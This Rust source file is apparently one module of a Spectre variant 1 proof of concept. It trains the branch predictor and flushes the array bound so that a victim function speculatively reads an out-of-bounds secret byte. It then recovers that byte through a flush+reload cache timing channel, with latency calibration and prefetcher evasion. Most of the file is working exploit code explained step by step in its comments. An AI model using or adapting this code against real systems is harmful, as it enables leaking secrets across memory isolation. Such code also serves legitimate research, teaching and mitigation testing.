// The microarchitecture harness.
//
// Owns every buffer the covert channel touches: the probe partitions that
// carry the leaked value through the cache, the small guarded array the
// victim is allowed to read, and the bound that protects it. Both halves of
// the channel run against the same harness, one thread, no sharing.
//

use std::hint::black_box;
use std::ptr;

use rand::seq::SliceRandom;

use crate::arch;
use crate::config::{ChannelConfig, ConfigError};
use crate::receiver::CovertChannel;
use crate::tally::Tally;
use crate::train;
use crate::{GUARDED_LEN, N_VALUES};

/// Average reload latencies measured on this machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Calibration {
    /// Cycles to reload a line that was just read.
    pub hit: u64,
    /// Cycles to reload a line that was just flushed.
    pub miss: u64,
}

impl Calibration {
    pub fn suggested_threshold(&self) -> u64 {
        self.hit + self.miss.saturating_sub(self.hit) / 2
    }

    /// Does `threshold` tell the two apart?
    pub fn separates(&self, threshold: u64) -> bool {
        self.hit <= threshold && threshold < self.miss
    }
}

pub struct Harness {
    config: ChannelConfig,

    // N_VALUES partitions of config.partition_size bytes, only the first line
    // of each one is ever read
    partitions: Box<[u8]>,

    // the only memory the victim may legally read
    guarded: Box<[u8; GUARDED_LEN]>,

    // kept in its own allocation so it can be flushed on every call
    bound: Box<usize>,

    // order in which partitions are reloaded, shuffled to defeat the stride
    // prefetcher
    reload_order: Vec<u8>,

    // everything loaded for its side effect ends up here
    sink: u8,
}

impl Harness {
    /// Build a harness, rejecting configurations whose partition table can't
    /// be laid out.
    pub fn new(config: ChannelConfig) -> Result<Self, ConfigError> {
        config.validate()?;

        let mut partitions = vec![0u8; N_VALUES * config.partition_size].into_boxed_slice();
        // write to every partition so they're in RAM, not copy-on-write zero
        // pages, before anything gets timed
        partitions.fill(1);

        let mut guarded = Box::new([0u8; GUARDED_LEN]);
        for (i, byte) in guarded.iter_mut().enumerate() {
            *byte = i as u8 + 1;
        }

        let mut reload_order: Vec<u8> = (0..=u8::MAX).collect();
        reload_order.shuffle(&mut rand::thread_rng());

        log::debug!(
            "harness: {} partitions x {} bytes, burst of {} victim calls ({} malicious)",
            N_VALUES,
            config.partition_size,
            train::burst_len(config.training_runs),
            train::malicious_calls_per_burst(config.training_runs),
        );

        Ok(Self {
            config,
            partitions,
            guarded,
            bound: Box::new(GUARDED_LEN),
            reload_order,
            sink: 0,
        })
    }

    pub fn config(&self) -> &ChannelConfig {
        &self.config
    }

    pub fn guarded(&self) -> &[u8; GUARDED_LEN] {
        &self.guarded
    }

    /// Accumulated junk from every side-effect load.
    pub fn sink(&self) -> u8 {
        self.sink
    }

    /// Index into the guarded array that lands on `target`. Wraps when
    /// `target` sits below the array.
    pub fn offset_of(&self, target: *const u8) -> usize {
        (target as usize).wrapping_sub(self.guarded.as_ptr() as usize)
    }

    fn partition(&self, value: u8) -> &u8 {
        &self.partitions[value as usize * self.config.partition_size]
    }

    /// Pull `value`'s partition into the cache the architectural way.
    pub fn load_partition(&mut self, value: u8) {
        let val = arch::touch(self.partition(value));
        self.sink ^= val;
    }

    /// The victim: a bounds-checked read whose result selects a partition.
    ///
    /// When `index` is out of bounds nothing happens architecturally, but if
    /// the check was predicted to pass the partition for `guarded[index]` has
    /// already been loaded by the time the misprediction is noticed, and that
    /// cache fill is not rolled back.
    #[inline(never)]
    fn transmit(&mut self, index: usize) {
        // push the bound out of the cache, the compare below then has to wait
        // for main memory, and everything the predictor lets through in the
        // meantime runs speculatively
        arch::flush(&*self.bound);

        // volatile, otherwise the compiler would happily keep the bound in a
        // register and there would be no slow load to speculate past
        let bound = unsafe { ptr::read_volatile(&*self.bound) };
        if index < bound {
            // after the training calls the predictor says "in bounds", so for
            // a malicious index this body runs on the wrong path: the first
            // load reads the secret byte through the guarded array, the second
            // turns that byte into a partition address and drags its line
            // into the cache, where it stays after the CPU squashes the path
            //
            // raw pointers: a slice bounds check here would be a second
            // branch the speculative path has to get past
            unsafe {
                let val = ptr::read_volatile(self.guarded.as_ptr().wrapping_add(index));
                let line = self
                    .partitions
                    .as_ptr()
                    .wrapping_add(val as usize * self.config.partition_size);
                self.sink &= ptr::read_volatile(line);
            }
        }
    }

    /// Average hit and miss latencies over `rounds` reloads.
    pub fn calibrate(&mut self, rounds: usize) -> Calibration {
        let rounds = rounds.max(1);
        let mut hit = 0u64;
        let mut miss = 0u64;
        for round in 0..rounds {
            let value = self.reload_order[round % N_VALUES];
            let line = value as usize * self.config.partition_size;

            arch::flush(&self.partitions[line]);
            arch::mfence();
            arch::lfence();

            let (cold, a) = arch::time_load(&self.partitions[line]);
            let (warm, b) = arch::time_load(&self.partitions[line]);
            self.sink ^= a ^ b;

            miss += cold;
            hit += warm;
        }
        Calibration {
            hit: hit / rounds as u64,
            miss: miss / rounds as u64,
        }
    }
}

impl CovertChannel for Harness {
    fn flush_all_partitions(&mut self) {
        for value in 0..=u8::MAX {
            arch::flush(self.partition(value));
        }
        arch::mfence();
    }

    fn train_and_transmit(&mut self, legal_index: usize, malicious_index: usize) {
        let runs = self.config.training_runs;
        for round in 0..train::burst_len(runs) {
            // let the previous speculative window drain before opening the
            // next one, the busy loop goes through black_box so it isn't
            // folded away, and the fence makes sure the flushes of the last
            // call have landed
            for _ in 0..self.config.delay_iterations {
                self.sink = black_box(self.sink.wrapping_sub(self.sink ^ 0x5a));
            }
            arch::mfence();

            // legal index on training rounds, malicious one on probe rounds,
            // picked without a branch of our own
            let index = train::select_index(round, runs, legal_index, malicious_index);
            self.transmit(index);
        }
    }

    fn measure_and_mark(&mut self, tally: &mut Tally) {
        let Self {
            config,
            partitions,
            reload_order,
            sink,
            ..
        } = self;
        // reload one line per partition and time it; a fast reload means the
        // line was already cached, and only the victim could have put it there
        // since the last flush
        for &value in reload_order.iter() {
            let (elapsed, val) = arch::time_load(&partitions[value as usize * config.partition_size]);
            *sink ^= val;
            if elapsed <= config.hit_threshold {
                tally.mark(value);
            }
        }
    }
}
